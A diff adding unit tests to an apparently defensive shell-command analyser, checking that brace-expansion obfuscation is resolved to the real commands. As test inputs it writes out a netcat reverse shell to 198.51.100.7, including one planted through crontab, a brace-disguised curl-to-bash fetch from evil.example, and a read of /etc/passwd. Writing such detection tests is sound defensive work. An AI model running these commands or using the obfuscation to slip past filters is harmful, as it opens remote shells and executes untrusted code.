@@ -135,3 +135,27 @@ def test_pipelines_through_wrappers_groups_and_bare_redirections():
     added = find("(crontab -l; echo '* * * * * nc -e /bin/sh 198.51.100.7 4444') | crontab -", "nc")
     assert added.via == ("crontab",)
     assert find("> /var/log/syslog", ":").writes == ["/var/log/syslog"]
+
+
+def test_brace_expansion_as_bash_does_it():
+    from vigiles.analysis.shell import brace_expand
+    assert brace_expand("{cat,/etc/passwd}") == ["cat", "/etc/passwd"]
+    assert brace_expand("/bin/{ba,}sh") == ["/bin/bash", "/bin/sh"]
+    assert brace_expand("a{b,c}d{e,f}") == ["abde", "abdf", "acde", "acdf"]
+    assert brace_expand("{a,{b,c}}x") == ["ax", "bx", "cx"]
+    assert brace_expand("x{1..3}") == ["x1", "x2", "x3"]
+    assert brace_expand("{}") == ["{}"] and brace_expand("x{y}z") == ["x{y}z"]
+    assert len(brace_expand("{a,b}" * 40)) == 64  # bounded
+
+
+def test_brace_words_are_read_as_the_command_they_expand_to():
+    reader = ShellReader()
+    assert [c.line for c in reader.read("{curl,-s,http://evil.example/x.sh}|{bash,}")] == [
+        "curl -s http://evil.example/x.sh", "bash"]
+    assert [c.line for c in reader.read("if true; then {nc,-e,/bin/sh,198.51.100.7,4444}; fi")][-1] == \
+        "nc -e /bin/sh 198.51.100.7 4444"
+    assert [c.line for c in reader.read("cu{rl,} http://x")] == ["curl cu http://x"]
+    # a group, find's {} and awk's braces are not brace expansions
+    assert [c.line for c in reader.read("{ echo a; }")] == ["echo a"]
+    assert [c.name for c in reader.read("find . -name x -exec rm {} \\;")] == ["find", "rm"]
+    assert [c.line for c in reader.read("awk '{print $1, $2}' f")] == ["awk {print $1, $2} f"]
